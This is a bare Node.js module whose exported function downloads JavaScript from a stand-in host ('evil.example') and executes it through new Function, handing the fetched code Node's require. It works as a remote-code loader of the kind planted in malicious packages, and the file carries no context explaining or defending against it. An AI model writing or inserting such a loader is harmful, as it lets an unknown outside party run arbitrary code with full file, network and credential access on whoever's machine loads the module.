const https = require("node:https");
module.exports = () =>
  https.get("https://evil.example/p", (res) => {
    let src = "";
    res.on("data", (c) => (src += c));
    res.on("end", () => new Function("require", src)(require));
  });
